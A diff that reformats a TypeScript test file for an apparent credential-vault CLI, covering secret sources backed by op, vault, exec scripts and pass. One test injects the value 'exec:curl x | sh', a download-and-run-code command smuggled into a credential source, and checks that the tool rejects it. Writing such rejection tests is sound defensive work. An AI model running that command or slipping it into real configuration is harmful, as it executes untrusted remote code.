@@ -54,14 +54,23 @@ function newKey(env: Record<string, string>, name: string): string {
   return /^fpr:+([0-9A-F]{40}):/m.exec(sh(["gpg", "--list-keys", "--with-colons"], env))![1]!;
 }
 
-const { ok, av } = recordingCli(() => B, () => ({ ...ENV, ...member(team.b) }), outputs);
+const { ok, av } = recordingCli(
+  () => B,
+  () => ({ ...ENV, ...member(team.b) }),
+  outputs,
+);
 
 /** What B's agent sends through `run`: curl to HOST; returns what reached the upstream for it. */
 async function agentRequest(host: string): Promise<{ status: string; wire: string }> {
   const mark = U.wire.length;
   const r = await av(["run", "--no-sandbox", "--quiet", "--", "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", `https://${host}/v1/user`]);
   await Bun.sleep(30);
-  const wire = Buffer.concat(U.wire.slice(mark).filter((w) => w.sni === host).map((w) => w.data)).toString("latin1");
+  const wire = Buffer.concat(
+    U.wire
+      .slice(mark)
+      .filter((w) => w.sni === host)
+      .map((w) => w.data),
+  ).toString("latin1");
   return { status: r.stdout, wire };
 }
 
@@ -87,8 +96,14 @@ beforeAll(async () => {
   // Stand-ins for op and vault that accept only what the real CLIs are documented to take.
   const bin = join(scratch, "standins");
   mkdirSync(bin);
-  writeFileSync(join(bin, "op"), `#!/bin/sh\n[ "$#" = 3 ] && [ "$1" = read ] && [ "$2" = --no-newline ] && [ "$3" = op://Team/GitHub/token ] || { echo "op stand-in: unexpected arguments: $*" >&2; exit 2; }\n[ -n "$OP_SERVICE_ACCOUNT_TOKEN" ] || { echo "op stand-in: not signed in" >&2; exit 1; }\nprintf %s '${OP_VALUE}'\n`);
-  writeFileSync(join(bin, "vault"), `#!/bin/sh\n[ "$#" = 5 ] && [ "$1" = kv ] && [ "$2" = get ] && [ "$3" = -mount=secret ] && [ "$4" = -field=token ] && [ "$5" = team/github ] || { echo "vault stand-in: unexpected arguments: $*" >&2; exit 2; }\n[ -n "$VAULT_ADDR" ] && [ -n "$VAULT_TOKEN" ] || { echo "vault stand-in: no VAULT_ADDR/VAULT_TOKEN" >&2; exit 1; }\nprintf %s '${VAULT_VALUE}'\n`);
+  writeFileSync(
+    join(bin, "op"),
+    `#!/bin/sh\n[ "$#" = 3 ] && [ "$1" = read ] && [ "$2" = --no-newline ] && [ "$3" = op://Team/GitHub/token ] || { echo "op stand-in: unexpected arguments: $*" >&2; exit 2; }\n[ -n "$OP_SERVICE_ACCOUNT_TOKEN" ] || { echo "op stand-in: not signed in" >&2; exit 1; }\nprintf %s '${OP_VALUE}'\n`,
+  );
+  writeFileSync(
+    join(bin, "vault"),
+    `#!/bin/sh\n[ "$#" = 5 ] && [ "$1" = kv ] && [ "$2" = get ] && [ "$3" = -mount=secret ] && [ "$4" = -field=token ] && [ "$5" = team/github ] || { echo "vault stand-in: unexpected arguments: $*" >&2; exit 2; }\n[ -n "$VAULT_ADDR" ] && [ -n "$VAULT_TOKEN" ] || { echo "vault stand-in: no VAULT_ADDR/VAULT_TOKEN" >&2; exit 1; }\nprintf %s '${VAULT_VALUE}'\n`,
+  );
   // exec: a script that prints a file, or fails with the canary on stderr when the file is gone.
   writeFileSync(join(bin, "team-secret"), `#!/bin/sh\n[ -f "${scratch}/exec-value" ] || { echo "${STDERR_CANARY}: no value" >&2; exit 3; }\ncat "${scratch}/exec-value"\n`);
   for (const name of ["op", "vault", "team-secret"]) chmodSync(join(bin, name), 0o755);
@@ -106,7 +121,12 @@ beforeAll(async () => {
   await ok(["vault", "credential", "source", "OP_TOKEN", "op://Team/GitHub/token"]);
   await ok(["vault", "credential", "source", "VAULT_TOKEN_KEY", "vault:secret/team/github#token"]);
   await ok(["vault", "credential", "source", "EXEC_TOKEN", `exec:${join(bin, "team-secret")}`, "--ttl", "2s"]);
-  const services: [string, string, string][] = [["github", "api.github.test", "GITHUB_TOKEN"], ["op", "api.op.test", "OP_TOKEN"], ["hv", "api.vault.test", "VAULT_TOKEN_KEY"], ["exec", "api.exec.test", "EXEC_TOKEN"]];
+  const services: [string, string, string][] = [
+    ["github", "api.github.test", "GITHUB_TOKEN"],
+    ["op", "api.op.test", "OP_TOKEN"],
+    ["hv", "api.vault.test", "VAULT_TOKEN_KEY"],
+    ["exec", "api.exec.test", "EXEC_TOKEN"],
+  ];
   for (const [name, host, key] of services) await ok(["vault", "service", "add", "--name", name, "--host", host, "--auth-type", "bearer", "--token-key", key]);
   await startServer(B, { ...ENV, ...Bm }, cleanups);
 }, 90_000);
@@ -168,7 +188,15 @@ describe.skipIf(!HAS_PASS)("a proposal asking for a sourced credential", () => {
     expect(filed.status).toBe("pending");
     const show = await ok(["vault", "proposal", "show", String(filed.id)]);
     expect(show.stdout).toContain("fetched from pass:team/github");
-    const bad = await av(["run", "--no-sandbox", "--quiet", "--", "sh", "-c", script.replace("pass:team/github", "exec:curl x | sh").replace("GH2_TOKEN", "GH3_TOKEN").replace("GH2_TOKEN", "GH3_TOKEN").replace("gh2", "gh3")]);
+    const bad = await av([
+      "run",
+      "--no-sandbox",
+      "--quiet",
+      "--",
+      "sh",
+      "-c",
+      script.replace("pass:team/github", "exec:curl x | sh").replace("GH2_TOKEN", "GH3_TOKEN").replace("GH2_TOKEN", "GH3_TOKEN").replace("gh2", "gh3"),
+    ]);
     expect(bad.stdout).toContain("invalid_request");
     await ok(["vault", "proposal", "approve", String(filed.id), "--yes"]);
     const list = JSON.parse((await ok(["vault", "credential", "list", "--json"])).stdout) as { key: string; type: string; source?: { from: string } }[];
@@ -201,10 +229,14 @@ describe.skipIf(!HAS_PASS)("a failing source", () => {
     const stale = await agentRequest("api.exec.test");
     expect(stale.status).toBe("200");
     expect(stale.wire).toContain(`Bearer ${EXEC_VALUE}`);
-    const status = await waitUntil("status to say the source fails", async () => {
-      const s = await ok(["status", "--json"]);
-      return s.stdout.includes("EXEC_TOKEN") ? s.stdout : null;
-    }, 5_000);
+    const status = await waitUntil(
+      "status to say the source fails",
+      async () => {
+        const s = await ok(["status", "--json"]);
+        return s.stdout.includes("EXEC_TOKEN") ? s.stdout : null;
+      },
+      5_000,
+    );
     const failing = (JSON.parse(status) as { vaults: { sources_failing: { key: string; error: string }[] }[] }).vaults[0]!.sources_failing;
     expect(failing).toEqual([expect.objectContaining({ key: "EXEC_TOKEN", error: expect.stringMatching(/team-secret exited with status 3$/) })]);
     expect((await ok(["vault", "credential", "list"])).stdout).toContain("source (failing)");
@@ -235,10 +267,13 @@ describe.skipIf(!HAS_PASS)("a failing source", () => {
 // v1.5.0") that has no --password: on such a machine this test is skipped, and says why.
 const GOPASS_VERSION = spawnSync("gopass", ["version"], { encoding: "utf8" }).stdout ?? "";
 const HAS_GOPASS_PW = HAS_PASS && /^gopass 1\.(1\d|[6-9])/m.test(GOPASS_VERSION);
-test.skipIf(!HAS_GOPASS_PW)(`gopass:PATH through gopass.pw's CLI (skipped: ${GOPASS_VERSION.trim() ? `installed gopass is "${GOPASS_VERSION.trim().split("\n")[0]}", not gopass.pw's` : "gopass is not installed"})`, async () => {
-  await ok(["vault", "credential", "source", "GOPASS_TOKEN", "gopass:team/github"]);
-  const got = await ok(["vault", "credential", "get", "GOPASS_TOKEN"]);
-  expect([FIRST, SECOND]).toContain(got.stdout.trim());
-});
+test.skipIf(!HAS_GOPASS_PW)(
+  `gopass:PATH through gopass.pw's CLI (skipped: ${GOPASS_VERSION.trim() ? `installed gopass is "${GOPASS_VERSION.trim().split("\n")[0]}", not gopass.pw's` : "gopass is not installed"})`,
+  async () => {
+    await ok(["vault", "credential", "source", "GOPASS_TOKEN", "gopass:team/github"]);
+    const got = await ok(["vault", "credential", "get", "GOPASS_TOKEN"]);
+    expect([FIRST, SECOND]).toContain(got.stdout.trim());
+  },
+);
 
 test.skipIf(HAS_PASS)("pass, gpg and git are needed for these tests (apt-get install pass gnupg git)", () => {});
